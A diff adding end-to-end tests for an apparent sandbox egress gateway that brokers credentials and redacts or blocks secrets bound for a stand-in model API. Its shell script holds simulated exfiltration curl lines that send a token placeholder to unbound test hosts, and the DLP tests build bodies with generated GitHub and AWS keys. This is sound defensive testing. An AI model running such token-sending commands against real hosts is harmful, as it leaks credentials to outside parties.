@@ -1,0 +1,194 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { createServer } from 'node:http';
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { startGateway, mapResolver, sandboxNetwork, prepareCredentials, caEnv } from '../../src/egress/index.ts';
+import { policySchema, type PolicyInput } from '../../src/policy/index.ts';
+import { fingerprint } from '../../src/secrets/index.ts';
+import { checksummedToken, awsKeyPair } from '../../src/secrets/honeytokens.ts';
+import type { AuditEventInput } from '../../src/audit/index.ts';
+import { curl, requests, waitFor } from './helpers.ts';
+import { testPki, httpsServer } from './pki.ts';
+
+// The credential broker and outbound DLP, end to end through the real gateway: the sandbox
+// variable holds a placeholder; curl (from a network namespace, as in a sandbox) reaches a
+// local HTTPS server bound to the credential, which receives the real value; the
+// placeholder anywhere else is refused and a high-severity finding recorded; a request to a
+// stand-in model API carrying a workspace secret is redacted or refused per policy. The real
+// value never appears in any audit event.
+
+const REAL = `ghp_${'R'.repeat(4)}realvalue${Date.now()}abcdefXYZ`;
+
+function home(): string { return mkdtempSync(join(tmpdir(), 'airlock-broker-home-')); }
+
+async function start(policy: PolicyInput, map: Record<string, string>, listen: { unixPath: string } | { host: string; port: number }, extra: { home: string; hostEnv: NodeJS.ProcessEnv; upstreamCa: string[] }) {
+  const p = policySchema.parse(policy);
+  const prepared = await prepareCredentials(p, extra.hostEnv, 'sess-1', extra.home);
+  const events: AuditEventInput[] = [];
+  const gw = await startGateway({
+    session: 'sess-1', policy: p, audit: (e) => events.push(e), listen, resolver: mapResolver(map),
+    ...prepared.gateway, tls: { ca: prepared.gateway.tls.ca, upstreamCa: extra.upstreamCa },
+  });
+  return { gw, events, prepared, url: `http://${gw.address}` };
+}
+
+test('placeholder in the sandbox, real value only at the bound destination; misuse anywhere else is refused and flagged (curl in a network namespace)', async (t) => {
+  const probe = spawn('unshare', ['-rn', 'true']);
+  if ((await new Promise((r) => probe.on('close', r))) !== 0) { t.skip('unshare -rn not permitted here'); return; }
+  const pki = await testPki();
+  const api = await httpsServer(await pki.leaf(['api.test']));
+  const other = await httpsServer(await pki.leaf(['other.test']));
+  const plainSeen: string[] = [];
+  const plain = createServer((q, s) => { let b = ''; q.on('data', (c) => { b += c; }); q.on('end', () => { plainSeen.push(`${q.url} ${JSON.stringify(q.headers)} ${b}`); s.end('ok'); }); });
+  await new Promise<void>((r) => plain.listen(0, '127.0.0.1', r));
+  const plainPort = (plain.address() as { port: number }).port;
+  const ports = [api.port, other.port, plainPort];
+  const h = home();
+  const dir = mkdtempSync(join(tmpdir(), 'airlock-broker-ns-'));
+  const s = await start({
+    egress: {
+      allow: [{ host: 'api.test', ports }, { host: 'other.test', ports }, { host: 'plain.test', ports }],
+      allowCidrs: [{ cidr: '127.0.0.1/32', ports }], intercept: ['other.test'],
+    },
+    credentials: { brokered: [{ name: 'GH_TOKEN', source: { env: 'HOST_GH_TOKEN' }, destinations: [{ host: 'api.test', port: api.port, paths: ['/v1'] }], inject: { header: 'Authorization', template: 'token {value}' } }] },
+  }, { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1', 'plain.test': '127.0.0.1' }, { unixPath: join(dir, 'gw.sock') }, { home: h, hostEnv: { HOST_GH_TOKEN: REAL }, upstreamCa: [pki.caPem] });
+  const ph = s.prepared.sandboxEnv.GH_TOKEN!;
+  assert.match(ph, /^airlock-ph-GH_TOKEN-[A-Za-z0-9]{32}$/);
+  assert.ok(!Object.values(s.prepared.sandboxEnv).some((v) => v.includes(REAL)), 'no sandbox variable holds the real value');
+  try {
+    const net = sandboxNetwork(s.gw.address, { transparent: false });
+    // the netns shares the host's mounts, so the bundle is named by its host path here (a session mounts it at /etc/ssl/certs)
+    const env = { ...process.env, ...net.env, ...s.prepared.sandboxEnv, ...caEnv(s.prepared.caBundlePath), HOST_GH_TOKEN: '', HOME_DIR: dir };
+    const script = `${net.setup}\nset +e
+echo "env=$GH_TOKEN"
+x=$(curl -sS --max-time 5 -D "$HOME_DIR/h" -H "Authorization: token $GH_TOKEN" https://api.test:${api.port}/v1/user); echo "$x rc=$?"
+grep -i '^x-echo-auth' "$HOME_DIR/h"
+x=$(curl -sS --max-time 5 https://api.test:${api.port}/v1/implicit); echo "$x rc=$?"
+curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: token $GH_TOKEN" https://other.test:${other.port}/; echo " rc=$?"
+curl -sS --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: token $GH_TOKEN" https://api.test:${api.port}/v2/admin; echo " rc=$?"
+curl -sS --max-time 5 -o /dev/null -w '%{http_code}' --data "t=$GH_TOKEN" https://other.test:${other.port}/upload; echo " rc=$?"
+curl -sS --max-time 5 -o /dev/null -w '%{http_code}' "http://plain.test:${plainPort}/?q=$GH_TOKEN"; echo " rc=$?"
+curl -sS --max-time 5 -o /dev/null -w '%{http_code}' --data "t=$GH_TOKEN" http://plain.test:${plainPort}/body; echo " rc=$?"
+`;
+    const p = spawn('unshare', ['-rn', 'sh', '-c', script], { env, stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    p.stdout.on('data', (d) => { out += d; }); p.stderr.on('data', (d) => { out += d; });
+    await new Promise((r) => p.on('close', r));
+    assert.ok(out.includes(`env=${ph}`), 'the brokered variable holds the placeholder');
+    assert.ok(!out.includes(REAL), 'nothing the sandbox saw holds the real value (the echoed header is scrubbed)');
+    const lines = out.split('\n').filter((l) => / rc=\d+$/.test(l));
+    assert.equal(lines.length, 7, out);
+    assert.match(lines[0]!, /GET \/v1\/user auth=token airlock-ph-GH_TOKEN-\w+ rc=0/, 'the echo shows the placeholder again');
+    assert.ok(out.includes(`x-echo-auth: token ${ph}`), 'a response header echoing the value is scrubbed too');
+    assert.match(lines[1]!, /GET \/v1\/implicit auth=token airlock-ph-GH_TOKEN-\w+ rc=0/, 'injected per policy when the client sends nothing');
+    for (const i of [2, 3, 4, 5, 6]) assert.match(lines[i]!, /^403 rc=0/, `misuse ${i} refused: ${lines[i]}`);
+    // what the servers received
+    assert.deepEqual(api.seen.map((x) => [x.url, x.headers.authorization]), [['/v1/user', `token ${REAL}`], ['/v1/implicit', `token ${REAL}`]]);
+    assert.equal(other.seen.length, 0, 'the other host received nothing');
+    assert.equal(plainSeen.length, 0, 'the plain-http host received nothing');
+    const findings = s.events.filter((e) => e.type === 'detect.finding');
+    assert.equal(findings.length, 5, JSON.stringify(findings.map((f) => f.data)));
+    assert.ok(findings.every((f) => f.severity === 'high' && f.rule === 'detect.credential-misuse' && (f.data as { credential: string }).credential === 'GH_TOKEN'));
+    assert.deepEqual(findings.map((f) => (f.data as { where: string }).where).sort(), ['body', 'body', 'header authorization', 'header authorization', 'url or headers']);
+    const denied = requests(s.events).filter((e) => e.rule === 'credentials.brokered.GH_TOKEN');
+    assert.equal(denied.length, 5);
+    assert.ok(denied.every((e) => e.decision === 'deny' && e.severity === 'high'));
+    const used = requests(s.events).find((e) => (e.data as { path: string }).path === '/v1/user')!;
+    assert.deepEqual((used.data as { credentials: unknown }).credentials, [{ name: 'GH_TOKEN', fingerprint: fingerprint(REAL) }]);
+    const all = JSON.stringify(s.events);
+    assert.ok(!all.includes(REAL), 'the real value is in no audit event');
+    assert.ok(!all.includes(ph), 'nor is the placeholder');
+    assert.ok(all.includes(fingerprint(REAL)), 'the fingerprint is');
+    assert.ok(!readFileSync(s.prepared.caBundlePath, 'utf8').includes('PRIVATE KEY'));
+  } finally { await s.gw.close(); await api.close(); await other.close(); plain.close(); }
+});
+
+async function modelSetup(mode: 'redact' | 'block' | 'off') {
+  const pki = await testPki();
+  const model = await httpsServer(await pki.leaf(['model.test']), (_s, res) => { res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"ok":true}'); });
+  const s = await start({
+    egress: { allow: [{ host: 'model.test', ports: [model.port] }], allowCidrs: [{ cidr: '127.0.0.1/32', ports: [model.port] }], modelApis: ['model.test'] },
+    secrets: { dlp: { mode } },
+    credentials: { brokered: [{ name: 'MODEL_KEY', source: { env: 'HOST_MODEL_KEY' }, destinations: [{ host: 'model.test', port: model.port }] }] },
+  }, { 'model.test': '127.0.0.1' }, { host: '127.0.0.1', port: 0 }, { home: home(), hostEnv: { HOST_MODEL_KEY: REAL }, upstreamCa: [pki.caPem] });
+  const caFile = join(mkdtempSync(join(tmpdir(), 'airlock-dlp-')), 'ca.pem');
+  writeFileSync(caFile, s.prepared.gateway.tls.ca.certPem);
+  return { model, s, caFile };
+}
+
+function workspaceSecretBody(): { body: string; gh: string; aws: { id: string; secret: string } } {
+  // a workspace file the agent read, pasted into a model request
+  const gh = checksummedToken('ghp_');
+  const aws = awsKeyPair();
+  const file = `# deploy notes\nGITHUB_TOKEN=${gh}\naws_access_key_id = ${aws.id}\naws_secret_access_key = ${aws.secret}\n`;
+  return { body: JSON.stringify({ model: 'm', input: [{ role: 'user', content: `here is config.env:\n${file}` }] }), gh, aws };
+}
+
+test('outbound DLP, redact: a workspace secret sent to the stand-in model API is cut out in flight; the model never receives it', async () => {
+  const { model, s, caFile } = await modelSetup('redact');
+  try {
+    const w = workspaceSecretBody();
+    const f = join(mkdtempSync(join(tmpdir(), 'airlock-dlp-body-')), 'body.json');
+    writeFileSync(f, w.body);
+    const r = await curl(['-x', s.url, '--cacert', caFile, '-H', 'content-type: application/json', '--data-binary', `@${f}`, `https://model.test:${model.port}/v1/responses`]);
+    assert.equal(r.status, 200, r.stderr);
+    assert.equal(model.seen.length, 1);
+    const got = model.seen[0]!;
+    for (const v of [w.gh, w.aws.id, w.aws.secret]) assert.ok(!got.body.includes(v), 'the stand-in never receives the value');
+    assert.match(got.body, /«REDACTED:github-token:[0-9a-f]{8}»/);
+    assert.equal(Number(got.headers['content-length']), Buffer.byteLength(got.body), 'Content-Length fixed');
+    assert.deepEqual(Object.keys(JSON.parse(got.body)), ['model', 'input'], 'still valid JSON');
+    assert.equal(got.headers.authorization, `Bearer ${REAL}`, 'the brokered model key was injected');
+    const dlp = s.events.filter((e) => e.type === 'egress.dlp');
+    assert.equal(dlp.length, 1);
+    const d = dlp[0]!.data as { action: string; findings: { rule: string; fingerprint: string }[] };
+    assert.equal(d.action, 'redacted');
+    assert.ok(d.findings.some((x) => x.fingerprint === fingerprint(w.gh)));
+    const all = JSON.stringify(s.events);
+    for (const v of [w.gh, w.aws.secret, REAL]) assert.ok(!all.includes(v), 'no value in the audit trail');
+
+    // a known host secret (the brokered key's real value) pasted in a body, gzip-encoded: decoded, cut out
+    const gz = gzipSync(JSON.stringify({ input: `my key is ${REAL} ok` }));
+    const gzFile = `${f}.gz`;
+    writeFileSync(gzFile, gz);
+    const r2 = await curl(['-x', s.url, '--cacert', caFile, '-H', 'content-type: application/json', '-H', 'content-encoding: gzip', '--data-binary', `@${gzFile}`, `https://model.test:${model.port}/v1/responses`]);
+    assert.equal(r2.status, 200, r2.stderr);
+    const got2 = model.seen[1]!;
+    assert.ok(!got2.body.includes(REAL));
+    assert.equal(got2.headers['content-encoding'], undefined, 'sent decoded');
+    assert.match(got2.body, /«REDACTED:known-secret\/MODEL_KEY:/);
+  } finally { await s.gw.close(); await model.close(); }
+});
+
+test('outbound DLP, block: the request is refused with secrets.dlp.mode and the model receives nothing', async () => {
+  const { model, s, caFile } = await modelSetup('block');
+  try {
+    const w = workspaceSecretBody();
+    const r = await curl(['-x', s.url, '--cacert', caFile, '-H', 'content-type: application/json', '--data-binary', w.body, `https://model.test:${model.port}/v1/messages`]);
+    assert.equal(r.status, 403);
+    assert.equal(r.headers['x-airlock-rule'], 'secrets.dlp.mode');
+    assert.equal(model.seen.length, 0);
+    const ev = await waitFor(() => requests(s.events).find((e) => e.rule === 'secrets.dlp.mode'), 'the denial');
+    assert.equal(ev.decision, 'deny');
+    const dlp = s.events.find((e) => e.type === 'egress.dlp')!;
+    assert.equal((dlp.data as { action: string }).action, 'blocked');
+    assert.ok(!JSON.stringify(s.events).includes(w.gh));
+    // a clean request still goes through
+    const ok = await curl(['-x', s.url, '--cacert', caFile, '-H', 'content-type: application/json', '--data-binary', '{"input":"hello"}', `https://model.test:${model.port}/v1/messages`]);
+    assert.equal(ok.status, 200);
+    assert.equal(model.seen.length, 1);
+  } finally { await s.gw.close(); await model.close(); }
+});
+
+test('a credential whose source cannot be read refuses preparation with an error naming it', async () => {
+  const p = policySchema.parse({ credentials: { brokered: [{ name: 'X_TOKEN', source: { env: 'NOPE_NOT_SET' }, destinations: [{ host: 'api.test' }] }] } });
+  await assert.rejects(prepareCredentials(p, {}, 's', home()), (e: Error & { kind?: string; hint?: string }) => e.kind === 'NOT_FOUND' && /X_TOKEN/.test(e.message) && /NOPE_NOT_SET/.test(e.message));
+  const q = policySchema.parse({ credentials: { brokered: [{ name: 'Y', source: { command: ['false'] }, destinations: [{ host: 'api.test' }] }] } });
+  await assert.rejects(prepareCredentials(q, process.env, 's', home()), /source.command false failed/);
+  assert.throws(() => policySchema.parse({ credentials: { brokered: [{ name: 'A', source: { env: 'B' }, destinations: [] }] } }));
+  assert.throws(() => policySchema.parse({ credentials: { brokered: [{ name: 'A', source: { env: 'B' }, destinations: [{ host: 'x.test' }], inject: { header: 'X', template: 'no value' } }] } }));
+});
